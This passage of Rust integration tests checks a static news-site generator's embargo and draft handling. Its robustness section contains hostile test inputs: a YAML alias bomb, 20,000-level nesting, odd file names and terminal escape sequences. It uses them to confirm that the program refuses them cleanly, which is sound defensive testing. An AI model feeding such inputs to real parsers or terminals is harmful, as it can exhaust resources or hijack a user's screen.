    let shows = |now: &str| {
        let run = site.run(&["build", "--now", now]);
        assert_eq!(run.status, 0, "{}", run.stderr);
        let tree = site.output();
        let trace = files_with(&tree, "xenops").len();
        let page = tree.contains_key("zh/2024/03/07/xenops-slug/index.html");
        assert_eq!(page, trace > 0, "{now}");
        page
    };
    assert!(!shows("2025-06-01T09:59:59+08:00"));
    // Ten o'clock is meant in the time zone of the site, however the time is written.
    assert!(shows("2025-06-01T10:00:00+08:00"));
    assert!(!shows("2025-06-01T01:59:59Z"));
    assert!(shows("2025-06-01T02:00:00Z"));
    assert!(shows("2025-06-02T00:00:00Z"));
}

#[test]
fn an_embargo_never_shows_a_draft() {
    let site = public_site();
    let without = site.build();
    for (path, text) in withheld("status: draft\nembargo: 2025-06-01 10:00\n") {
        site.write(path, text);
    }
    assert_no_trace(&site, &without);
}

#[test]
fn a_link_to_a_draft_keeps_its_words_and_loses_its_address() {
    let site = reaching(
        "",
        "详见[行动方案](xenops.zh.md)和[图](xenops.zh.md#top)，以及<a href=\"xenops.zh.md\">全文</a>。",
    );
    site.write(
        "content/2024/xenops.zh.md",
        "---\ntitle: 獬豸\ndate: 2024-03-01\nstatus: draft\ntranslation: none\n---\n獬豸。\n",
    );
    let tree = site.build();
    for word in WITHHELD_WORDS {
        assert_eq!(files_with(&tree, word), Vec::<&str>::new(), "{word}");
    }
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    assert!(
        words(page)
            .replace(' ', "")
            .contains("详见行动方案和图，以及全文。")
    );
}

#[test]
fn a_mistake_in_a_draft_is_reported_like_any_other() {
    // Found now, or on the morning on which it should be public.
    let site = SiteTest::new(FAIR);
    site.write(
        "content/2024/draft.zh.md",
        "---\ntitle: 草稿\ndate: 2024-03-01\nstatus: draft\ntopics: [emploiment]\ntranslation: none\n---\n草稿。\n",
    );
    assert_refused(&site, &["unknown-topic"]);
}

#[test]
fn a_broken_link_in_a_draft_is_reported_before_the_day_on_which_it_should_be_public() {
    for state in ["status: draft", "embargo: 2027-01-01 10:00"] {
        let site = SiteTest::new(FAIR);
        site.write(
            "content/2024/draft.zh.md",
            format!(
                "---\ntitle: 草稿\ndate: 2024-03-01\n{state}\ntranslation: none\n---\n详见[方案](gone.pdf)。\n"
            ),
        );
        assert_refused(&site, &["broken-link"]);
    }
}

// Input made to break the program

#[test]
fn a_yaml_bomb_is_an_error_and_no_more() {
    let mut bomb = String::from("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for level in 1..12 {
        let inner = vec![format!("*a{}", level - 1); 10].join(",");
        bomb.push_str(&format!("a{level}: &a{level} [{inner}]\n"));
    }
    assert_refused(&reaching(&bomb, "公告。"), &["yaml"]);
    let site = SiteTest::new(FAIR);
    site.write("content/site.yaml", &bomb);
    assert_refused(&site, &["yaml"]);
}

#[test]
fn deeply_nested_yaml_is_an_error_and_no_more() {
    let deep = 20_000;
    for value in [
        "[".repeat(deep),
        format!("{}{}", "[".repeat(deep), "]".repeat(deep)),
        format!("{}x{}", "{a: ".repeat(deep), "}".repeat(deep)),
        format!("\n{}x", "- ".repeat(deep)),
    ] {
        let site = reaching(&format!("keywords: {value}\n"), "公告。");
        assert_refused(&site, &["yaml"]);
    }
}

#[test]
fn a_body_of_five_megabytes_is_published_whole() {
    let paragraph = "千山市人民政府新闻办公室今天公布招聘会的安排。\n\n";
    let site = reaching(
        "",
        &format!(
            "{}最后一句。",
            paragraph.repeat(5_000_000 / paragraph.len())
        ),
    );
    let tree = site.build();
    let page = text(&tree, "zh/2024/03/05/fair/index.html");
    assert!(page.len() > 4_900_000);
    assert!(page.contains("最后一句。"));
    // The lists and feeds carry a summary, not the body.
    assert!(tree["zh/feed.xml"].len() < 10_000 && tree["zh/index.html"].len() < 20_000);
}

#[test]
fn deep_nesting_does_not_bring_the_program_down() {
    let deep = 20_000;
    for (what, body) in [
        ("quotes", format!("{}深", ">".repeat(deep))),
        ("spaced quotes", format!("{}深", "> ".repeat(deep))),
        ("lists", format!("{}深", "- ".repeat(deep))),
        ("numbered lists", format!("{}深", "1. ".repeat(deep))),
        ("quoted lists", format!("{}深", "> - ".repeat(deep / 2))),
        (
            "brackets",
            format!("{}深{}", "[".repeat(deep), "]".repeat(deep)),
        ),
        ("open links", "[深](".repeat(deep)),
        ("open images", "![".repeat(deep)),
        (
            "emphasis",
            format!("{}深{}", "**".repeat(deep), "**".repeat(deep)),
        ),
        ("unmatched emphasis", "*a **b ".repeat(deep)),
        ("code", "`a".repeat(deep)),
        ("HTML", format!("{}深", "<b>".repeat(deep))),
        ("HTML blocks", format!("{}深", "<div>\n".repeat(deep / 4))),
        ("signs", "<".repeat(deep)),
        ("footnotes", format!("{}\n\n[^1]: 注", "[^1]".repeat(deep))),
    ] {
        let site = reaching("", &body);
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_newsroom"))
            .current_dir(site.root())
            .args(["check", "--now", NOW])
            .output()
            .unwrap();
        // A crash has no status of its own. An error that says "too deeply nested" would do.
        let status = output.status.code();
        assert!(
            status == Some(0) || status == Some(1),
            "{what}: {}\n{}",
            output.status,
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn a_file_name_that_an_address_cannot_hold_is_refused() {
    let site = SiteTest::new(FAIR);
    site.write("content/static/a\nb.txt", "x");
    site.write("content/static/a\\b.txt", "x");
    assert_refused(&site, &["file-name", "file-name"]);
}

#[test]
fn a_message_cannot_steer_the_terminal() {
    // An escape sequence in a file must not clear the screen of whoever builds the site.
    let site = reaching("", "详见[方案](<x\u{1B}[2Jy.pdf>)。\u{1B}]0;title\u{7}");
    site.write(
        "content/2024/esc.zh.md",
        "---\ntitle: 公告\ndate: \"\\e[2J2024\"\ntranslation: none\n---\n公告。\n",
    );
    let run = site.run(&["check", "--now", NOW]);
    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(!run.stderr.contains('\u{1B}'), "{:?}", run.stderr);
    assert!(!run.stderr.contains('\u{7}'), "{:?}", run.stderr);
}
